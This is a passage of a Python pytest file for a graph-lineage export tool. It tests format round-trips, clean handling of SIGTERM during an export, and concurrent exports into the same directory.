    assert [c["address"] for c in release["citations"]] == [row["source_url"]]


@pytest.mark.slow
@pytest.mark.parametrize("fmt", list(READERS))
def test_the_real_graph_exports_whole_in_every_format(memory_real: MemoryStore, tmp_path: Path, fmt: str) -> None:
    """Read back whole; how long each format takes is measured by benchmarks/bench_exports.py, not here."""
    export(memory_real, fmt, tmp_path / "real")
    read = READERS[fmt](tmp_path / "real")
    counts = memory_real.counts()
    assert (len(read.nodes), len(read.edges)) == (counts.total_nodes, counts.total_edges)


def test_an_export_stopped_by_sigterm_leaves_the_old_files_and_nothing_else(
    memory_real: MemoryStore, tmp_path: Path
) -> None:
    """Hostile input, round eleven: `kill` (SIGTERM) ended an export at once, leaving its half-written files in a
    hidden folder among the user's (one more each time), exit 143 and not a word. Now it is met as Ctrl-C is:
    what it wrote goes, the old files stay whole, and it says why it stopped."""
    from tests.lineage.stores.processes import lineage, one_line_error, until

    snapshot = tmp_path / "graph.snapshot"
    memory_real.save(snapshot)
    out = tmp_path / "csv"
    out.mkdir()
    (out / "nodes.csv").write_text("old nodes")
    (out / "edges.csv").write_text("old edges")
    process = lineage("export", "--format", "csv", "--output", out, "--store", f"memory:{snapshot}")
    assert until(lambda: any(p.name.endswith(".tmp") for p in out.iterdir()) or process.poll() is not None)
    process.terminate()
    _, err = process.communicate(timeout=60)
    assert process.returncode == 143, err
    assert one_line_error(err) == "lineage: terminated (see `lineage counts` for what did not finish)"
    assert sorted(p.name for p in out.iterdir()) == ["edges.csv", "nodes.csv"]
    assert [(out / name).read_text() for name in ("nodes.csv", "edges.csv")] == ["old nodes", "old edges"]


def test_two_exports_into_one_directory_at_once_never_mix_their_files(
    fixture_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Hostile input, round eleven: two exports into one directory moved their files in turn, and one's nodes.csv
    was left beside the other's edges.csv. Here the second starts as the first has moved its nodes.csv in: it
    waits for the first, and the directory holds the second's files, both."""
    import threading

    out = tmp_path / "csv"
    out.mkdir()
    replace, second = os.replace, None

    def between(source: Any, target: Any) -> None:  # the first export, once its nodes.csv is in
        nonlocal second
        replace(source, target)
        if second is None and Path(target) == out / "nodes.csv":
            second = threading.Thread(target=export, args=(fixture_store, "csv", out, g.R1, 1))
            second.start()
            second.join(1)

    monkeypatch.setattr(files.os, "replace", between)
    export(fixture_store, "csv", out)
    assert second is not None
    second.join(30)
    written = read_csv(out)
    assert len(written.nodes) < 16  # the second's, R1's neighbours
    assert {end for source, _, target in written.edges for end in (source, target)} <= set(written.nodes)
